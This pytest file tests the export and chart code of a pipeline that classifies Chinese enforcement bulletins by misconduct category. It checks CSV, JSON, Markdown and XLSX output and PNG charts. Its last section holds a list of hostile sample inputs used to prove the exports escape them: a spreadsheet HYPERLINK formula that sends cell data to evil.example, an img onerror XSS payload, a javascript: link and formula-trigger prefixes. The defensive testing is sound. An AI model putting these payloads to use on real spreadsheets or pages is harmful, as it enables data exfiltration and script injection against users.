"""The issue list in every format (golden where deterministic), the XLSX workbook, charts."""

from __future__ import annotations

import csv
import io
import json

import pytest

import pipeline.reports.chart as chart_mod
from helpers.golden import golden
from helpers.storekit import EXPECTED_BY_CATEGORY, CueModel, classified_store, cue_predict
from pipeline.batch import classify
from pipeline.cli.main import main
from pipeline.errors import ChartFontError, UsageError
from pipeline.reports.exports import SUMMARY_SHEET, UNKNOWN, issue_format, write_issues
from pipeline.reports.queries import ISSUE_COLUMNS, counts, issues
from pipeline.taxonomy import CATEGORIES


@pytest.fixture(scope="module")
def db(tmp_path_factory):
    return classified_store(tmp_path_factory.mktemp("exports"))


@pytest.mark.parametrize("fmt", ["csv", "json", "md"])
def test_report_issues_text_formats_golden(db, fmt):
    out = io.StringIO()
    assert write_issues(issues(db), fmt, None, out) == 8
    assert out.getvalue() == golden(f"issues.{fmt}", out.getvalue())


def test_report_issues_json_records_each_with_category(db, capsys):
    assert main(["issues", "--db", str(db), "--format", "json", "--category", "执法不廉"]) == 0
    rows = json.loads(capsys.readouterr().out)
    assert [r["category"] for r in rows] == ["执法不廉", "执法不廉"]
    assert all(list(r) == list(ISSUE_COLUMNS) for r in rows)
    assert rows[0]["evidence"] == ["收受财物"] and rows[0]["page"] == 1


def test_report_issues_csv_file_from_suffix(db, tmp_path, capsys):
    out = tmp_path / "list.csv"
    assert main(["issues", "--db", str(db), "--output", str(out)]) == 0
    assert capsys.readouterr().err == f"bulletins: wrote 8 issue(s) to {out}\n"
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")  # a BOM: Excel and WPS read it as UTF-8
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert [r["category"] for r in rows].count("作风不优") == 2 and rows[0]["evidence"] == "粗暴执法、态度生硬"


def test_report_issue_format_rules(tmp_path):
    assert issue_format(None, None) == "md"
    assert issue_format(None, tmp_path / "x.XLSX") == "xlsx"
    assert issue_format("json", tmp_path / "x.txt") == "json"
    with pytest.raises(UsageError, match="an XLSX issue list needs --output FILE.xlsx"):
        issue_format("xlsx", None)


def test_report_issues_xlsx_workbook(db, tmp_path):
    from openpyxl import load_workbook

    out = tmp_path / "问题清单.xlsx"
    assert main(["issues", "--db", str(db), "--output", str(out)]) == 0
    wb = load_workbook(out)
    assert wb.sheetnames == [SUMMARY_SHEET, *CATEGORIES]
    summary = [[c.value for c in row] for row in wb[SUMMARY_SHEET].iter_rows()]
    assert summary == [
        ["类别", "南充市", "绵阳市", "合计"],
        ["宗旨不牢", 0, 0, 0],
        ["作风不优", 2, 0, 2],
        ["本领不强", 1, 1, 2],
        ["担当不力", 0, 1, 1],
        ["执法不廉", 2, 0, 2],
        ["职责不明", 0, 1, 1],
        ["合计", 5, 3, 8],
    ]
    for cat in CATEGORIES:
        ws = wb[cat]
        assert ws.max_row - 1 == EXPECTED_BY_CATEGORY.get(cat, 0)
        header = [c.value for c in ws[1]]
        assert header[:8] == ["地区", "单位", "日期", "简报", "页码", "栏目", "问题（原文）", "依据"]
        assert all(c.font.bold for c in ws[1]) and ws.freeze_panes == "A2"
    ws = wb["作风不优"]
    assert [c.value for c in ws[2]][:5] == [
        "南充市",
        "南充市交通运输综合行政执法支队",
        "2021-06-08",
        "南充市交通运输执法领域突出问题专项整治行动工作简报 2021年第1期",
        1,
    ]
    widths = {
        ws.cell(1, j).value: ws.column_dimensions[ws.cell(1, j).column_letter].width
        for j in range(1, ws.max_column + 1)
    }
    # Readable: the text column is wide but capped (and wraps), short columns stay narrow.
    assert widths["问题（原文）"] == 82 and ws["G2"].alignment.wrap_text
    assert widths["页码"] <= 8 and widths["单位"] >= 30 and widths["日期"] >= 12


def test_report_issues_xlsx_unknown_region_and_empty_store(tmp_path):
    from openpyxl import load_workbook

    path = tmp_path / "a.txt"
    path.write_text(
        "某单位工作简报\n\n2021年第1期\n\n一、动态\n\n6月1日，有人反映执法人员态度生硬。\n", encoding="utf-8"
    )
    db = tmp_path / "r.db"
    classify([path], db=db, jobs=1, model=CueModel(), predict=cue_predict, quiet=True)
    out = tmp_path / "a.xlsx"
    write_issues(issues(db), "xlsx", out)
    wb = load_workbook(out)
    assert [c.value for c in wb[SUMMARY_SHEET][1]] == ["类别", UNKNOWN, "合计"]
    assert wb["作风不优"]["A2"].value == UNKNOWN
    empty = tmp_path / "empty.xlsx"
    write_issues(issues(db, category="职责不明"), "xlsx", empty)
    assert load_workbook(empty)[SUMMARY_SHEET]["B2"].value == 0


def test_report_issues_md_is_printable(db):
    text = io.StringIO()
    write_issues(issues(db, region="绵阳市"), "md", None, text)
    md = text.getvalue()
    lines = md.splitlines()
    assert lines[0] == "# 问题清单" and lines[2] == "共 3 条（3 段）；模型：cues@1"
    sections = md.split("\n## ")[1:]
    assert [s.splitlines()[0] for s in sections] == ["本领不强（1 条）", "担当不力（1 条）", "职责不明（1 条）"]
    for section in sections:
        rows = [ln for ln in section.splitlines() if ln.startswith("|")]
        assert len(rows) == 3  # header, rule, one passage
        assert {ln.replace("\\|", "").count("|") for ln in rows} == {10}  # 序号 + 8 columns


# --- chart ---------------------------------------------------------------------------------


def test_report_chart_without_cjk_font_writes_nothing(db, tmp_path, monkeypatch, capsys):
    monkeypatch.setattr(chart_mod, "find_cjk_font", lambda: None)
    out = tmp_path / "c.png"
    assert main(["chart", "--db", str(db), "--output", str(out)]) == 1
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1
    assert err.startswith("bulletins: error: no font with Chinese glyphs found")
    assert "sudo apt-get install fonts-noto-cjk or fonts-wqy-zenhei" in err
    assert not out.exists()
    with pytest.raises(ChartFontError):
        chart_mod.chart(out, db)


@pytest.mark.filterwarnings(r"ignore:Glyph \d+ .* missing from font\(s\) DejaVu Sans:UserWarning")
@pytest.mark.parametrize("by", ["month", "region"])
def test_report_chart_png_written(db, tmp_path, monkeypatch, capsys, by):
    """The drawing path, on any machine: a Latin font stands in for the CJK one."""
    from matplotlib import font_manager as fm

    monkeypatch.setattr(chart_mod, "find_cjk_font", lambda: ("DejaVu Sans", fm.findfont("DejaVu Sans")))
    out = tmp_path / "sub" / f"{by}.png"
    assert main(["chart", "--db", str(db), "--by", by, "--output", str(out)]) == 0
    assert capsys.readouterr().err == f"bulletins: wrote {out}\n"
    data = out.read_bytes()
    assert data[:8] == b"\x89PNG\r\n\x1a\n" and len(data) > 5000


def test_report_chart_with_cjk_font_draws_every_glyph(db, tmp_path):
    """Runs where a CJK font is installed; filterwarnings=error fails on any missing glyph."""
    if chart_mod.find_cjk_font() is None:
        pytest.skip("no CJK font installed (apt-get install fonts-wqy-zenhei)")
    for by in ("month", "region"):
        out = chart_mod.chart(tmp_path / f"{by}.png", db, by=by)
        assert out.read_bytes()[:4] == b"\x89PNG"
    table = counts(db, by=["region", "category"])
    chart_mod.render(table.iloc[0:0], "region", tmp_path / "empty.png")  # no data: an empty, labelled chart
    assert (tmp_path / "empty.png").exists()


def test_report_exports_empty_labels_in_counts():
    import io

    import pandas as pd

    from pipeline.reports.exports import write_counts

    frame = pd.DataFrame({"region": ["", "南充市"], "month": ["", "2021-06"], "count": [2, 3], "passages": [2, 3]})
    out = io.StringIO()
    write_counts(frame, "csv", out)
    assert out.getvalue().splitlines()[1:] == ["（未识别）,（无日期）,2,2", "南充市,2021-06,3,3"]
    out = io.StringIO()
    write_counts(frame, "json", out)  # machine-readable: the stored values
    assert '"region": ""' in out.getvalue()


# --- export safety: formulas and markup in passages ---------------------------------------------

HOSTILE = (
    '=HYPERLINK("http://evil.example/?d="&A1,"详情")',
    "+1 执法人员态度生硬",
    "-2 收受财物",
    "@x 推诿扯皮 | 管道 \\ 反斜杠",
    '<img src=x onerror="alert(1)"> 收费放行',
    "[点击](javascript:alert(1)) *强调* _下划线_ `代码`",
    "\t=1+1",
    "第二行\n换行",
)


@pytest.fixture
def hostile(db):
    frame = issues(db)
    frame = frame.iloc[: len(HOSTILE)].copy()
    frame["text"] = list(HOSTILE)
    frame["unit"] = ["=1+2"] + list(frame["unit"])[1:]
    return frame


def test_report_exports_csv_escapes_formulas(hostile, tmp_path):
    out = tmp_path / "list.csv"
    write_issues(hostile, "csv", out)
    body = out.read_bytes().decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(body)))
    assert [r["text"] for r in rows][:4] == ["'" + t for t in HOSTILE[:4]]
    assert rows[6]["text"] == "'\t=1+1" and rows[0]["unit"] == "'=1+2"
    assert rows[4]["text"] == HOSTILE[4]  # CSV has no markup: the text as written
    assert all(not (v or "").startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r.values())


def test_report_exports_xlsx_never_writes_formulas(hostile, tmp_path):
    import zipfile

    from openpyxl import load_workbook

    out = tmp_path / "list.xlsx"
    write_issues(hostile, "xlsx", out)
    wb = load_workbook(out)
    texts = {ws.cell(r, 7).value: ws.cell(r, 7).data_type for ws in wb.worksheets[1:] for r in range(2, ws.max_row + 1)}
    assert set(texts) == set(HOSTILE) and set(texts.values()) == {"s"}
    with zipfile.ZipFile(out) as zf:
        sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets and all("<f>" not in zf.read(n).decode() for n in sheets)


def test_report_exports_markdown_escapes_markup(hostile):
    out = io.StringIO()
    write_issues(hostile, "md", None, out)
    md = out.getvalue()
    assert "<img" not in md and '&lt;img src=x onerror="alert(1)"&gt;' in md
    assert "\\[点击\\](javascript:alert(1)) \\*强调\\* \\_下划线\\_ \\`代码\\`" in md
    assert "\\| 管道 \\\\ 反斜杠" in md
    assert "第二行 换行" in md
    for section in md.split("\n## ")[1:]:
        rows = [ln for ln in section.splitlines() if ln.startswith("|")]
        assert {ln.replace("\\|", "").count("|") for ln in rows} == {10}  # escaped pipes split no cell
